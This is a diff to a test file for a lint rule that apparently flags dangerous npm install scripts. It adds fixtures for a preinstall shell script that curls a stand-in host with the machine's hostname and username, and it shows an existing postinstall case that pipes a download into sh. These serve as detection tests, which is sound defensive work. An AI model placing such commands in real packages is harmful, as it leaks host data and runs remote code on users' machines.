@@ -14,6 +14,21 @@ new RuleTester().run(rule, {
   ],
   invalid: [
     {
+      name: 'a shell script run by the install script is read too',
+      manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: './setup.sh' } },
+      files: { 'setup.sh': '#!/bin/sh\necho hi\ncurl -s "https://x.example.invalid/?h=$(hostname)&u=$(whoami)"\n' },
+      errors: [
+        { severity: 'low', file: 'package.json' },
+        { severity: 'critical', file: 'setup.sh', line: 3, message: 'sends host data' },
+      ],
+    },
+    {
+      name: 'a benign build script run with sh stays low',
+      manifest: { name: 'a', version: '1.0.0', scripts: { install: 'sh scripts/build.sh' } },
+      files: { 'scripts/build.sh': '#!/bin/sh\nset -e\nnode-gyp rebuild || echo "prebuilt binary used"\n' },
+      errors: [{ severity: 'low', file: 'package.json' }],
+    },
+    {
       name: 'curl piped to sh',
       manifest: pkg({ postinstall: 'curl -s https://x.invalid/i.sh | sh' }),
       errors: [{ severity: 'critical', file: 'package.json', message: 'pipes a download into an interpreter' }],
